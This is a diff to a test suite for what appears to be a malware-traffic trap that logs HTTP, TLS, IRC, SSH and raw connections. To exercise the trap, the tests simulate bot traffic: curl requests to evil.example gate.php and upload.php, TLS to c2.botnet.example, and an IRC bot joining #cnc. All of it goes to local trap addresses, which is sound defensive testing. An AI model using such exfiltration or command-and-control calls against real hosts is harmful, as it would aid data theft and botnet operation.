@@ -54,7 +54,8 @@ def assert_payload(env, ev, data, kind, since=0, filename=None):
     assert fi["fileinfo"]["size"] == len(data)
     assert fi["fileinfo"]["stored"] is True
     assert fi["fileinfo"]["truncated"] is False
-    assert fi["src_port"] == ev["src_port"] and fi["dest_ip"] == ev["dest_ip"]
+    assert fi["src_port"] == ev["src_port"] and fi["dest_port"] == ev["dest_port"]
+    assert fi["dest_ip"] == ev["dest_ip"]
     if filename is not None:
         assert fi["fileinfo"].get("filename") == filename
     path = env.payload_path(sha)
@@ -71,10 +72,10 @@ def test_http_get_original_port_and_domain(env):
     assert addr.startswith("10.66.")
     mark = env.mark()
     r = env.curl("--resolve", f"evil.example:8080:{addr}", "http://evil.example:8080/gate.php?id=42",
-                 "-o", "/dev/null", "-w", "%{http_code} %{local_port}")
-    code, lport = r.stdout.split()
-    assert code == "200", r.stderr
-    ev = env.wait_trap(dest_ip=addr, src_port=int(lport), since=mark)[0]
+                 "-o", "/dev/null", "-w", "%{http_code}")
+    assert r.stdout == "200", r.stderr
+    ev = env.wait_trap(dest_ip=addr, since=mark,
+                       pred=lambda e: e.get("http", {}).get("url") == "/gate.php?id=42")[0]
     assert_conn_fields(ev, addr, 8080, "evil.example")
     assert ev["app_proto"] == "http"
     assert ev["trap"]["detected"] == "http"
@@ -104,7 +105,7 @@ def test_community_id_on_trap_and_fileinfo_events(env):
     r = env.curl("--data-binary", body.decode(), f"http://{addr}:8081/cid", "-o", "/dev/null",
                  "-w", "%{local_port}")
     lport = int(r.stdout)
-    ev = env.wait_trap(dest_ip=addr, src_port=lport, since=mark)[0]
+    ev = env.wait_trap(dest_ip=addr, since=mark)[0]
     fi = env.fileinfo(sha256(body), since=mark)
     want = trapenv.community_id(CLIENT_IP, addr, lport, 8081, 6)
     assert ev.get("community_id") == want, ev
@@ -124,15 +125,47 @@ def test_http_post_body_is_stored(env):
     r = env.curl("--resolve", f"evil.example:8080:{addr}", "--data-binary", f"@{f}",
                  "-H", "Content-Type: application/octet-stream",
                  "http://evil.example:8080/upload.php", "-o", "/dev/null",
-                 "-w", "%{http_code} %{local_port}")
-    code, lport = r.stdout.split()
-    assert code == "200", r.stderr
-    ev = env.wait_trap(dest_ip=addr, src_port=int(lport), since=mark)[0]
+                 "-w", "%{http_code}")
+    assert r.stdout == "200", r.stderr
+    ev = env.wait_trap(dest_ip=addr, since=mark,
+                       pred=lambda e: e.get("http", {}).get("url") == "/upload.php")[0]
     assert_conn_fields(ev, addr, 8080, "evil.example")
     assert ev["http"]["http_method"] == "POST"
     assert ev["http"]["url"] == "/upload.php"
     assert ev["http"]["request_body_length"] == len(body)
     assert_payload(env, ev, body, "http_request_body", since=mark)
+
+
+def test_source_port_is_the_clients(env):
+    """The event names the port the client really used, even when the same
+    client port talks to several ports of the trap (bots and scanners that
+    reuse a fixed source port); the community id must match the wire."""
+    addr = env.resolve("srcport.drop.example")
+    sport = random.randint(40000, 44999)
+    ports = random.sample(range(20000, 30000), 3)
+    mark = env.mark()
+    socks = []
+    try:
+        for dport in ports:
+            with env.in_client():
+                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            s.bind((CLIENT_IP, sport))
+            s.settimeout(5)
+            s.connect((addr, dport))
+            s.sendall(b"hello from a fixed port\n")
+            socks.append(s)
+    finally:
+        time.sleep(0.3)
+        for s in socks:
+            s.close()
+    evs = env.wait_for(lambda e: e["dest_ip"] == addr, since=mark, count=3,
+                       what="events of the three connections")
+    got = sorted((e["dest_port"], e["src_port"]) for e in evs)
+    assert got == sorted((p, sport) for p in ports), f"client port {sport}, events {got}"
+    for e in evs:
+        assert e.get("community_id") == trapenv.community_id(CLIENT_IP, addr, sport,
+                                                             e["dest_port"], 6)
 
 
 # ---------------------------------------------------------------- TLS
@@ -147,7 +180,7 @@ def test_tls_curl_sni_and_ja3(env):
                      "-w", "%{http_code} %{local_port}")
         code, lport = r.stdout.split()
         assert code == "200", r.stderr
-        ev = env.wait_trap(dest_ip=addr, src_port=int(lport), since=mark)[0]
+        ev = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == 443)[0]
         pcap = cap.write(env.dir / "tls-curl.pcap")
     assert_conn_fields(ev, addr, 443, "c2.botnet.example")
     assert ev["trap"]["tls"] is True
@@ -209,6 +242,47 @@ def test_tls_certificate_is_for_the_sni_and_signed_by_local_ca(env):
     assert ev["trap"]["tls"] is True
     assert ev["tls"]["sni"] == sni
     assert hashlib.md5(ev["tls"]["ja3"]["string"].encode()).hexdigest() == ev["tls"]["ja3"]["hash"]
+
+
+def cert_subject_and_san(env, pem_text):
+    pem = env.dir / f"cert-{random.randrange(1 << 30)}.pem"
+    pem.write_text(pem_text)
+    return trapenv.run(["openssl", "x509", "-in", pem, "-noout", "-subject", "-ext",
+                        "subjectAltName", "-nameopt", "RFC2253"], check=True).stdout
+
+
+def test_tls_without_sni_gets_the_mapped_domain(env):
+    """No SNI: the certificate is for the domain the address was handed out for."""
+    addr = env.resolve("nosni.c2.botnet.example")
+    mark = env.mark()
+    r = env.client(["openssl", "s_client", "-connect", f"{addr}:8443", "-noservername",
+                    "-CAfile", env.ca_cert(), "-verify_return_error", "-verify_hostname",
+                    "nosni.c2.botnet.example"], input="", timeout=20)
+    assert r.returncode == 0, r.stdout[-1500:] + r.stderr[-1500:]
+    leaf = re.search(r"-----BEGIN CERTIFICATE-----.*?-----END CERTIFICATE-----\n", r.stdout,
+                     re.S).group(0)
+    info = cert_subject_and_san(env, leaf)
+    assert "subject=CN=nosni.c2.botnet.example" in info
+    assert "DNS:nosni.c2.botnet.example" in info
+    ev = env.wait_trap(dest_ip=addr, since=mark)[0]
+    assert ev["trap"]["tls"] is True
+    assert "sni" not in ev["tls"]
+    assert ev["trap"]["domain"] == "nosni.c2.botnet.example"
+
+
+def test_tls_sni_names_the_domain_when_the_address_does_not(env):
+    """To the trap's own listen address (no mapping), the SNI is the domain."""
+    mark = env.mark()
+    r = env.curl("-k", "--resolve", f"unmapped.example:443:{trapenv.TRAP_IP}",
+                 "https://unmapped.example/", "-o", "/dev/null",
+                 "-w", "%{http_code}")
+    assert r.stdout == "200", r.stderr
+    ev = env.wait_trap(dest_ip=trapenv.TRAP_IP, since=mark,
+                       pred=lambda e: e["dest_port"] == 443)[0]
+    assert ev["dest_port"] == 443
+    assert ev["trap"]["domain"] == "unmapped.example"
+    assert ev["trap"]["domain_source"] == "tls_sni"
+    assert ev["tls"]["sni"] == "unmapped.example"
 
 
 # ---------------------------------------------------------------- SMTP
@@ -301,7 +375,6 @@ def test_irc_channel_and_commands(env, port):
     addr = env.resolve("irc.evil.example")
     mark = env.mark()
     s = env.tcp(addr, port)
-    lport = s.getsockname()[1]
     try:
         s.sendall(b"NICK bot4242\r\nUSER bot 0 * :Bot Real\r\n")
         got = b""
@@ -318,7 +391,7 @@ def test_irc_channel_and_commands(env, port):
     finally:
         s.close()
     assert b"JOIN :#cnc" in got
-    ev = env.wait_trap(dest_ip=addr, src_port=lport, since=mark)[0]
+    ev = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == port)[0]
     assert_conn_fields(ev, addr, port, "irc.evil.example")
     assert ev["app_proto"] == "irc"
     irc = ev["irc"]
@@ -337,7 +410,7 @@ def test_irc_channel_and_commands(env, port):
 
 @pytest.mark.parametrize("port", [22, 2222])
 def test_ssh_client_version(env, port):
-    addr = env.resolve("evil.example")
+    addr = env.resolve("ssh.evil.example")
     ver = subprocess.run(["ssh", "-V"], capture_output=True, text=True).stderr.strip()
     software, comments = re.match(r"(OpenSSH_\S+) ([^,]+),", ver).groups()
     mark = env.mark()
@@ -346,7 +419,7 @@ def test_ssh_client_version(env, port):
                     "-p", port, f"u@{addr}", "true"], timeout=20)
     assert r.returncode == 255  # the trap takes the identification and closes
     ev = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == port)[0]
-    assert_conn_fields(ev, addr, port, "evil.example")
+    assert_conn_fields(ev, addr, port, "ssh.evil.example")
     assert ev["app_proto"] == "ssh"
     assert ev["trap"]["end"] == "ssh_recorded"
     c = ev["ssh"]["client"]
@@ -388,7 +461,6 @@ def test_garbage_is_kept_as_raw_payload(env):
     data = b"\xfe\xed\xfa\xce" + os.urandom(2000)
     mark = env.mark()
     s = env.tcp(addr, port)
-    lport = s.getsockname()[1]
     s.sendall(data)
     s.shutdown(socket.SHUT_WR)
     try:
@@ -397,7 +469,7 @@ def test_garbage_is_kept_as_raw_payload(env):
     except (socket.timeout, ConnectionResetError):
         pass
     s.close()
-    ev = env.wait_trap(dest_ip=addr, src_port=lport, since=mark)[0]
+    ev = env.wait_trap(dest_ip=addr, since=mark)[0]
     assert_conn_fields(ev, addr, port, "junk.drop.example")
     assert "app_proto" not in ev
     assert ev["trap"]["detected"] == "unknown"
@@ -411,7 +483,6 @@ def test_silent_client_ends_after_read_timeout(env):
     port = random_port()
     mark = env.mark()
     s = env.tcp(addr, port, timeout=10)
-    lport = s.getsockname()[1]
     t0 = time.monotonic()
     try:
         assert s.recv(1) == b"", "the trap sent something to a client that said nothing"
@@ -419,7 +490,7 @@ def test_silent_client_ends_after_read_timeout(env):
     finally:
         s.close()
     assert 1.5 <= closed_after <= 5, closed_after
-    ev = env.wait_trap(dest_ip=addr, src_port=lport, since=mark)[0]
+    ev = env.wait_trap(dest_ip=addr, since=mark)[0]
     assert_conn_fields(ev, addr, port, "quiet.drop.example")
     assert ev["trap"]["end"] == "silent"
     assert ev["trap"]["bytes_toserver"] == 0
@@ -434,10 +505,9 @@ def test_ipv6_pool_address_is_attributed(env):
     assert addr6.startswith("fd66::")
     mark = env.mark()
     r = env.curl("-g", f"http://[{addr6}]:8080/v6.php", "-o", "/dev/null",
-                 "-w", "%{http_code} %{local_port}")
+                 "-w", "%{http_code}")
     assert r.returncode == 0, f"curl to [{addr6}]:8080 from the client failed: {r.stderr}"
-    code, lport = r.stdout.split()
-    assert code == "200"
-    ev = env.wait_trap(dest_ip=addr6, src_port=int(lport), since=mark)[0]
+    assert r.stdout == "200"
+    ev = env.wait_trap(dest_ip=addr6, since=mark)[0]
     assert_conn_fields(ev, addr6, 8080, "v6.evil.example", src_ip=CLIENT_IP6)
     assert ev["http"]["url"] == "/v6.php"
